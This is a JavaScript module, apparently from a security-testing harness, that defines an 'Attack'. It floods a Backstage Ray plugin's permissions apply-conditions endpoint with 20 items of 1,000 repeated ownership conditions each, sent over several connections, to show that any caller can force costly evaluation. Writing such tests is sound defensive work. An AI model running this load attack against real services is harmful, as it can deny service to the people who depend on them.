const CONNECTIONS = 4;

const CONDITIONS = 1_000;

/** @type {import('./Target.mjs').Attack} */
export const guessedConditions = {
  name: 'guesses about objects, as conditions',
  finding: 'each was judged, for anybody',
  run: target => {
    const { namespace } = target.victim;
    const condition = {
      resourceType: 'ray-cluster',
      rule: 'IS_OWNER',
      params: { owners: ['user:default/normal'] },
    };
    const body = JSON.stringify({
      items: Array.from({ length: 20 }, (_, index) => ({
        id: `${index}`,
        resourceRef: `${namespace}/example-00001`,
        resourceType: 'ray-cluster',
        conditions: {
          anyOf: Array.from({ length: CONDITIONS }, () => condition),
        },
      })),
    });
    const path = '/api/ray/.well-known/backstage/permissions/apply-conditions';
    const headers = { 'content-type': 'application/json' };
    return target.repeat(CONNECTIONS, () => ({ path, body, headers }));
  },
};
